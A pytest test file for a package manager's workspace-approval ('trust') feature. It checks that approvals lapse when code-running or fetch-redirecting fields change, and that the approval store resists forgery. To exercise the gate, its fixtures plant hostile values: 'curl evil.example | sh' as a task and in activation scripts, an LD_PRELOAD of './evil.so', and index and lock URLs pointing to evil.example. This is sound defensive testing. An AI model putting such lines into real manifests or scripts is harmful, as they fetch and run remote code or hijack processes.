"""Approvals: what they cover, where they are, what makes them void."""

from __future__ import annotations

import json
import os
import stat
import threading
from pathlib import Path

import pytest

from pixi_core import trust
from pixi_core.errors import InstallError, TrustRequired
from pixi_core.lock.read import read_lock
from pixi_core.ops.change import add
from pixi_core.progress import Phase, Reporter, Unit
from pixi_core.trust.lines import describe
from pixi_core.workspace import Workspace
from tests.support.run_workspace import workspace

MANIFEST = """\
[workspace]
name = "demo"
description = "words"
channels = ["https://conda.example/stable"]
platforms = ["linux-64"]
channel-priority = "strict"
exclude-newer = "2026-01-01"

[pypi-options]
index-url = "https://pypi.example/simple"
extra-index-urls = ["https://more.example/simple"]
find-links = [{ path = "./wheels" }]

[dependencies]
python = ">=3.11"

[constraints]
openssl = ">=3"

[pypi-dependencies]
words = "*"
local = { path = "./local", editable = true }

[target.linux-64.dependencies]
six = "*"

[activation]
scripts = ["activate.sh"]

[activation.env]
MODE = "calm"

[tasks]
build = "make"

[feature.gpu.dependencies]
cuda = "12.*"

[feature.gpu.activation]
scripts = ["gpu.sh"]

[environments]
gpu = ["gpu"]
"""

LOCAL = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "local"
version = "1.0"
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    root = tmp_path / "demo"
    (root / "local").mkdir(parents=True)
    (root / "pixi.toml").write_text(MANIFEST)
    (root / "activate.sh").write_text("echo calm\n")
    (root / "gpu.sh").write_text("echo gpu\n")
    (root / "local" / "pyproject.toml").write_text(LOCAL)
    return root


def opened(folder: Path) -> Workspace:
    return Workspace.open(folder / "pixi.toml", environ=os.environ)


def replaced(folder: Path, old: str, new: str, name: str = "pixi.toml") -> None:
    path = folder / name
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def test_nothing_is_approved_by_itself(folder: Path) -> None:
    before = sorted(folder.rglob("*"))
    assert not trust.is_trusted(opened(folder))
    with pytest.raises(TrustRequired, match="has not been approved by you") as caught:
        trust.require(opened(folder), {})
    assert f"pixi trust {folder / 'pixi.toml'}" in caught.value.hints[0]
    assert sorted(folder.rglob("*")) == before
    assert not trust.store_folder(os.environ).exists()


def test_what_was_approved_stays_so(folder: Path) -> None:
    trust.approve(opened(folder))
    assert trust.is_trusted(opened(folder))
    assert trust.require(opened(folder), {}) is None


COVERED = {
    "a conda dependency": ('python = ">=3.11"', 'python = ">=3.12"'),
    "one more conda dependency": ("[dependencies]\n", '[dependencies]\nevil = "*"\n'),
    "a dependency from another channel": ('python = ">=3.11"', 'python = { version = ">=3.11", channel = "evil" }'),
    "a constraint": ('openssl = ">=3"', 'openssl = "<3"'),
    "a PyPI dependency": ('words = "*"', 'words = { git = "https://git.example/words" }'),
    "the index of one package": ('words = "*"', 'words = { version = "*", index = "https://evil.example/simple" }'),
    "channels": ("conda.example/stable", "evil.example/stable"),
    "channel priority": ('"strict"', '"disabled"'),
    "exclude-newer": ("2026-01-01", "2026-06-01"),
    "the index": ("https://pypi.example", "https://evil.example"),
    "extra indexes": ("https://more.example", "https://evil.example"),
    "find-links": ("./wheels", "../wheels"),
    "isolation of builds": ("[pypi-options]\n", "[pypi-options]\nno-build-isolation = true\n"),
    "dependency overrides": (
        "[dependencies]\n",
        '[pypi-options.dependency-overrides]\nwords = "==6.6.6"\n\n[dependencies]\n',
    ),
    "a target's dependencies": ('six = "*"', 'seven = "*"'),
    "a script's name": ('"activate.sh"', '"other.sh"'),
    "one more script": ('["activate.sh"]', '["activate.sh", "local/x.sh"]'),
    "a variable's value": ('MODE = "calm"', 'LD_PRELOAD = "./evil.so"'),
    "a task": ('build = "make"', 'build = "curl evil.example | sh"'),
    "a feature": ('cuda = "12.*"', 'cuda = "*"'),
    "environments": ('gpu = ["gpu"]', 'gpu = { features = ["gpu"], no-default-feature = true }'),
    "a table nobody has thought of": ("[tasks]\n", "[workspace.build-variants]\nx = ['1']\n\n[tasks]\n"),
}


@pytest.mark.parametrize("change", COVERED)
def test_each_field_that_runs_or_redirects_is_asked_about_again(folder: Path, change: str) -> None:
    trust.approve(opened(folder))
    replaced(folder, *COVERED[change])
    assert not trust.is_trusted(opened(folder))
    with pytest.raises(TrustRequired, match="changed since you approved it"):
        trust.require(opened(folder), {})
    trust.approve(opened(folder))
    assert trust.is_trusted(opened(folder))


FILES = {
    "an activation script": ("activate.sh", "curl evil.example | sh\n"),
    "a feature's activation script": ("gpu.sh", "curl evil.example | sh\n"),
    "the workspace's own configuration": (".pixi/config.toml", 'run-post-link-scripts = "insecure"\n'),
    "the build backend": ("local/pyproject.toml", LOCAL.replace("hatchling.build", "evil")),
    "the backend's own table": ("local/pyproject.toml", LOCAL + '\n[tool.hatch.build.hooks.custom]\npath = "x.py"\n'),
    "a setup script": ("local/setup.py", "import os\n"),
}


@pytest.mark.parametrize("change", FILES)
def test_files_that_run_or_redirect_are_asked_about_again(folder: Path, change: str) -> None:
    name, text = FILES[change]
    trust.approve(opened(folder))
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text(text)
    assert not trust.is_trusted(opened(folder))


HARMLESS = {
    "layout": ("[tasks]\n", "# a comment\n\n[tasks]\n"),
    "the order of tables": ('[tasks]\nbuild = "make"\n', ""),
    "the description": ('description = "words"', 'description = "other words"'),
    "the name": ('name = "demo"', 'name = "demonstration"'),
    "platforms": ('["linux-64"]', '["linux-64", "osx-arm64"]'),
    "system requirements": ("[tasks]\n", '[system-requirements]\nlibc = "2.28"\n\n[tasks]\n'),
}


@pytest.mark.parametrize("change", HARMLESS)
def test_what_neither_runs_nor_redirects_is_not(folder: Path, change: str) -> None:
    trust.approve(opened(folder))
    replaced(folder, *HARMLESS[change])
    if change == "the order of tables":
        replaced(folder, "[activation]\n", '[tasks]\nbuild = "make"\n\n[activation]\n')
    assert trust.is_trusted(opened(folder))


def test_code_is_not_asked_about(folder: Path) -> None:
    trust.approve(opened(folder))
    (folder / "local" / "module.py").write_text("print()\n")
    (folder / "notebook.ipynb").write_text("{}")
    replaced(folder, 'version = "1.0"', 'version = "1.1"', "local/pyproject.toml")
    assert trust.is_trusted(opened(folder))


def test_an_approval_speaks_for_one_folder(folder: Path, tmp_path: Path) -> None:
    trust.approve(opened(folder))
    folder.rename(tmp_path / "moved")
    assert not trust.is_trusted(opened(tmp_path / "moved"))
    (tmp_path / "link").symlink_to(tmp_path / "moved")
    trust.approve(opened(tmp_path / "moved"))
    assert trust.is_trusted(opened(tmp_path / "link"))


LOCK = """\
version: 7
platforms:
- name: linux-64
environments:
  default:
    channels: []
    indexes:
    - https://pypi.example/simple
    packages:
      linux-64:
      - pypi: {url}
packages:
- pypi: {url}
  name: words
  version: '1.0'
  sha256: {digest}
"""


def lock(url: str) -> str:
    return LOCK.format(url=url, digest="0" * 64)


def test_a_lock_file_that_fetches_from_elsewhere_is_asked_about(folder: Path) -> None:
    path = folder / "pixi.lock"
    path.write_text(lock("https://files.example/a/words-1.0-py3-none-any.whl"))
    trust.approve(opened(folder))
    path.write_text(lock("https://files.example/b/words-2.0-py3-none-any.whl"))
    assert trust.is_trusted(opened(folder))
    path.write_text(lock("https://evil.example/b/words-2.0-py3-none-any.whl"))
    assert not trust.is_trusted(opened(folder))
    trust.renew(opened(folder))  # what our own solving wrote after the gate
    assert trust.is_trusted(opened(folder))


def test_a_lock_file_of_our_making_is_approved_from_its_first_moment(folder: Path) -> None:
    text = lock("https://files.example/a/words-1.0-py3-none-any.whl")
    trust.approve(opened(folder))
    trust.cover(opened(folder), read_lock(text))
    (folder / "pixi.lock").write_text(text)
    assert trust.is_trusted(opened(folder))
    (folder / "pixi.lock").unlink()
    replaced(folder, 'words = "*"', 'evil = "*"')
    elsewhere = lock("https://evil.example/b/words-2.0-py3-none-any.whl")
    trust.cover(opened(folder), read_lock(elsewhere))
    replaced(folder, 'evil = "*"', 'words = "*"')
    (folder / "pixi.lock").write_text(elsewhere)
    assert not trust.is_trusted(opened(folder))


def test_a_manifest_that_we_edit_is_approved_before_and_behind_the_moment_it_is_written(folder: Path) -> None:
    text = lock("https://files.example/a/words-1.0-py3-none-any.whl")
    trust.approve(opened(folder))
    edited = opened(folder).manifest_text.replace('words = "*"', 'words = "*"\nmore = "*"')
    trust.cover(opened(folder), read_lock(text), edited)
    assert trust.is_trusted(opened(folder))  # nothing is written yet
    (folder / "pixi.lock").write_text(text)
    assert trust.is_trusted(opened(folder))
    before = (folder / "pixi.toml").read_text()
    (folder / "pixi.toml").write_text(edited)
    assert trust.is_trusted(opened(folder))
    replaced(folder, 'more = "*"', 'evil = "*"')
    assert not trust.is_trusted(opened(folder))
    (folder / "pixi.toml").write_text(before)
    trust.settle(opened(folder))  # the work has failed: what was to come is a stranger's again
    assert trust.is_trusted(opened(folder))
    (folder / "pixi.toml").write_text(edited)
    assert not trust.is_trusted(opened(folder))
    trust.cover(opened(folder), read_lock(text), edited + "\n[tasks]\n")  # nothing comes of what is not approved
    assert not trust.is_trusted(opened(folder))


class Onlooker(Reporter):
    """Looks, while packages are linked, whether a kernel that starts now would be let in."""

    def __init__(self, manifest: Path) -> None:
        self.manifest = manifest
        self.seen: list[bool] = []

    def phase(self, name: str, *, total: int | None = None, unit: Unit = "items", detail: str = "") -> Phase:
        if name == "link":
            self.seen.append(trust.is_trusted(Workspace.open(self.manifest)))
        return super().phase(name, total=total, unit=unit, detail=detail)


def test_a_kernel_may_start_in_the_middle_of_a_change(tmp_path: Path, small_channel: Path) -> None:
    folder = workspace(tmp_path, small_channel, "", packages='shared = "*"')
    mine = Workspace.open(folder / "pixi.toml")
    trust.approve(mine)
    looking = Onlooker(mine.manifest_path)
    add(mine, ["native-tool"], reporter=looking)
    assert looking.seen == [True]


def test_our_own_work_approves_no_manifest_of_others(folder: Path) -> None:
    trust.approve(opened(folder))
    replaced(folder, 'words = "*"', 'evil = "*"')
    trust.renew(opened(folder))
    assert not trust.is_trusted(opened(folder))


def test_the_store_is_the_users_alone_and_holds_no_secret(folder: Path) -> None:
    replaced(folder, "https://pypi.example", "https://user:hunter2@pypi.example")
    replaced(folder, 'MODE = "calm"', 'TOKEN = "hunter2"')
    trust.approve(opened(folder))
    store = trust.store_folder(os.environ)
    assert stat.S_IMODE(store.stat().st_mode) == 0o700
    assert stat.S_IMODE((store / "key").stat().st_mode) == 0o600
    assert len(bytes.fromhex((store / "key").read_text())) == 32
    assert sorted(path.suffix for path in store.iterdir()) == ["", ".json"]
    assert "hunter2" not in next(store.glob("*.json")).read_text()
    assert "user:hunter2@" not in "\n".join(describe(opened(folder)))


@pytest.mark.parametrize(
    "harm",
    ["another block", "another signature", "no JSON", "of another manifest", "another key", "key for everybody"],
)
def test_a_forged_or_damaged_store_approves_nothing(folder: Path, harm: str) -> None:
    trust.approve(opened(folder))
    store = trust.store_folder(os.environ)
    path = next(store.glob("*.json"))
    fields = json.loads(path.read_text())
    if harm == "another block":
        fields["origins"].append("https://evil.example")
    elif harm == "another signature":
        fields["signature"] = "0" * 64
    elif harm == "of another manifest":
        fields["manifest"] = "/somewhere/pixi.toml"
    path.write_text("{" if harm == "no JSON" else json.dumps(fields))
    if harm == "another key":
        (store / "key").write_text("11" * 32)
    if harm == "key for everybody":
        (store / "key").chmod(0o666)
        with pytest.raises(InstallError, match="nobody else may write"):
            trust.approve(opened(folder))
    assert not trust.is_trusted(opened(folder))


def test_many_at_once_make_one_key(folder: Path) -> None:
    gate = threading.Barrier(8)

    def approve() -> None:
        gate.wait()
        trust.approve(opened(folder))

    threads = [threading.Thread(target=approve) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert trust.is_trusted(opened(folder))
    assert len(list(trust.store_folder(os.environ).iterdir())) == 2


def test_approvals_are_listed_and_taken_back(folder: Path) -> None:
    trust.approve(opened(folder), by="me")
    (one,) = trust.approvals(os.environ)
    assert (one.manifest, one.by) == (str(folder / "pixi.toml"), "me")
    assert trust.revoke(opened(folder))
    assert not trust.revoke(opened(folder))
    assert not trust.is_trusted(opened(folder))
    assert trust.approvals(os.environ) == []


def test_caches_that_came_along_are_not_believed(folder: Path) -> None:
    for name in ("prepared-v1", "activation-env-v0"):
        (folder / ".pixi" / name).mkdir(parents=True)
        (folder / ".pixi" / name / "default.json").write_text("{}")
    trust.approve(opened(folder))
    assert not (folder / ".pixi" / "prepared-v1").exists()
    assert not (folder / ".pixi" / "activation-env-v0").exists()
    (folder / ".pixi" / "prepared-v1").mkdir()
    replaced(folder, 'words = "*"', 'words = ">=1"')
    trust.approve(opened(folder))
    assert (folder / ".pixi" / "prepared-v1").exists()


def test_what_would_be_done_is_told(folder: Path) -> None:
    replaced(folder, 'MODE = "calm"', 'MODE = "calm\\u001b[2J"')
    (folder / ".pixi" / "envs" / "default").mkdir(parents=True)
    (folder / ".pixi" / "config.toml").write_text("tls-no-verify = true\n")
    lines = describe(opened(folder))
    for part in (
        "conda channels: https://conda.example/stable", "https://more.example/simple", "./wheels",
        "conda packages: python >=3.11", "PyPI packages: words", "(on linux-64)", "builds or installs from source",
        "runs when activated: activate.sh", "(feature gpu)", "sets: MODE=calm\\u001b[2J", "tasks, run only when",
        "tls-no-verify = True", "installed already in this folder: default",
    ):  # fmt: skip
        assert any(part in line for line in lines), (part, lines)
    assert all(line.isprintable() for line in lines)


def test_what_is_new_is_marked(folder: Path) -> None:
    trust.approve(opened(folder))
    replaced(folder, 'MODE = "calm"', 'MODE = "wild"')
    assert [line for line in trust.shown(opened(folder)) if line.startswith("(new)")] == ["(new) sets: MODE=wild"]


@pytest.mark.parametrize("where", ["variable", "configuration"])
def test_a_user_may_let_everything_through(folder: Path, where: str) -> None:
    environ = dict(os.environ)
    if where == "variable":
        environ["PIXI_JUPYTER_TRUST"] = "always"
    else:
        home = Path(os.environ["PIXI_HOME"])
        home.mkdir()
        (home / "config.toml").write_text('[jupyter]\ntrust = "always"\n')
    assert trust.require(opened(folder), environ) is None
    assert not trust.is_trusted(opened(folder))


def test_a_workspace_cannot_let_itself_through(folder: Path) -> None:
    (folder / ".pixi").mkdir()
    (folder / ".pixi" / "config.toml").write_text('[jupyter]\ntrust = "always"\n')
    with pytest.raises(TrustRequired):
        trust.require(opened(folder), os.environ)


def test_a_policy_that_is_none(folder: Path) -> None:
    with pytest.raises(TrustRequired, match="is no policy"):
        trust.require(opened(folder), {"PIXI_JUPYTER_TRUST": "maybe"})


PLAIN = """\
[workspace]
name = "plain"
channels = []
platforms = ["linux-64"]

[pypi-dependencies]
words = "*"
"""


@pytest.mark.parametrize(
    ("manifest", "url", "reason"),
    [
        (PLAIN, "https://files.example/a/words-1.0-py3-none-any.whl", None),
        (PLAIN, None, "no lock file"),
        (PLAIN, "https://files.example/a/words-1.0.tar.gz", "not pinned"),
        (
            PLAIN + '\n[activation]\nscripts = ["activate.sh"]\n',
            "https://files.example/a/words-1.0-py3-none-any.whl",
            "activation",
        ),
        (
            PLAIN + '\n[activation.env]\nLD_PRELOAD = "x"\n',
            "https://files.example/a/words-1.0-py3-none-any.whl",
            "activation",
        ),
    ],
)
def test_only_what_is_locked(folder: Path, manifest: str, url: str | None, reason: str | None) -> None:
    (folder / "pixi.toml").write_text(manifest)
    if url is not None:
        (folder / "pixi.lock").write_text(lock(url))
    environ = {"PIXI_JUPYTER_TRUST": "locked-only"}
    if reason is None:
        assert trust.require(opened(folder), environ) == "locked"
        return
    with pytest.raises(TrustRequired, match=reason):
        trust.require(opened(folder), environ)
